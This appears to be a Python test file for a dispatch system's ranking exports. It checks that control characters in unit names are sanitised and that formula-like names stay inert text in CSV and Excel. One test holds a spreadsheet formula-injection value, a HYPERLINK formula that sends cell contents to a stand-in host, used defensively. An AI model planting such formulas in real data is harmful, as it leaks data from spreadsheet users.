"""Text in a bulletin that a worksheet cannot hold still makes a bulletin."""

from __future__ import annotations

import io

from dispatch.supervision.exports import ExportFormat, ranking_table, render
from dispatch.units.models import Unit
from openpyxl import load_workbook

from ..kit import SUPERVISOR, Kit
from .helpers import rate


async def test_the_excel_ranking_marks_control_characters_in_a_stored_unit_name(kit: Kit) -> None:
    # Found fuzzing the OpenAPI: a unit name holding a control character (stored before names were
    # checked) made GET /supervision/rankings/export?format=xlsx a 500 for the whole month.
    order = await kit.lead(await kit.receive())
    await kit.handle_to_reply(order)
    await rate(kit, await kit.order(order["order_id"]), satisfaction="satisfied", solved=True)
    async with kit.db.transaction() as session:
        stored = await session.get(Unit, order["unit_id"])
        assert stored is not None
        stored.name = "城管\x08执法局\x1b"
    month = f"{kit.clock.now():%Y-%m}"
    r = await kit.client.get(
        "/api/v1/supervision/rankings/export", params={"month": month, "format": "xlsx"}, headers=SUPERVISOR
    )
    assert r.status_code == 200, r.text
    sheet = load_workbook(io.BytesIO(r.content)).active
    assert sheet is not None
    names = [row[3] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert "城管\ufffd执法局\ufffd" in names


def test_render_keeps_printable_text_and_line_breaks_as_they_are() -> None:
    rows = [{"rank": 1, "unit_id": "U1", "unit_name": "市城管局\t东城\n分局", "volume": 1}]
    sheet = load_workbook(io.BytesIO(render(ranking_table("2026-11", rows), ExportFormat.xlsx))).active
    assert sheet is not None
    assert sheet.cell(row=2, column=4).value == "市城管局\t东城\n分局"


def test_a_name_that_looks_like_a_formula_stays_text_in_csv_and_excel() -> None:
    # A unit name is typed by a person; opened in a spreadsheet it must never run.
    evil = '=HYPERLINK("http://example.com/?x="&A1,"点我")'
    rows = [
        {"rank": 1, "unit_id": "U1", "unit_name": evil, "volume": 3},
        {"rank": 2, "unit_id": "U2", "unit_name": "-2+3", "volume": 2},
        {"rank": 3, "unit_id": "U3", "unit_name": "市城管局", "volume": 1},
    ]
    table = ranking_table("2026-11", rows)
    sheet = load_workbook(io.BytesIO(render(table, ExportFormat.xlsx))).active
    assert sheet is not None
    names = [sheet.cell(row=r, column=4) for r in (2, 3, 4)]
    assert [c.data_type for c in names] == ["s", "s", "s"]
    assert [c.value for c in names] == ["'" + evil, "'-2+3", "市城管局"]
    text = render(table, ExportFormat.csv).decode("utf-8-sig")
    assert "\"'=HYPERLINK(" in text
    assert ",'-2+3," in text
    assert ",市城管局," in text
    # Numbers are still numbers.
    assert sheet.cell(row=2, column=1).value == 1
